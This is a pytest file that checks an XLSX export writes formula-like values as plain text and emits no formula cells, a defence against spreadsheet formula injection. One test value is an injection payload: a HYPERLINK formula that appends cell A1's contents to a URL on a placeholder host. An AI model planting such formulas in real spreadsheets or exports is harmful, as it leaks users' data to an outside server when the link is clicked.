"""The XLSX writer (commitments/exports.py): text stays text."""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook, load_workbook

from commitments import access, exports, services
from tests import factories

LINK = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'


@pytest.mark.parametrize("text", [LINK, "+1+2", "-2+3", "@SUM(A1:A2)", "=1+1"])
def test_a_text_that_starts_like_a_formula_is_written_as_text(text):
    book = Workbook()
    exports._append(book.active, ["code", text, 3.5])
    out = io.BytesIO()
    book.save(out)
    cell = load_workbook(io.BytesIO(out.getvalue())).active["B1"]
    assert (cell.value, cell.data_type) == (text, "s")


def test_a_unit_named_like_a_formula_reaches_the_workbook_as_text(catalogue):
    department = factories.department()
    desk = factories.unit("vp", parent=department, receives_dossiers=True, name=LINK)
    factories.figure(desk, "dossiers_resolved", 100, category="land")
    factories.figure(desk, "dossiers_on_time", 99, category="land")
    services.recompute.statuses_recompute(year=2021)
    data = exports.workbook(year=2021, quarter=1, scope=access.ALL_UNITS)
    book = load_workbook(io.BytesIO(data))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value == LINK]
    assert cells, "the unit's name is in the workbook"
    assert all(c.data_type == "s" for c in cells)
    formulas = [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
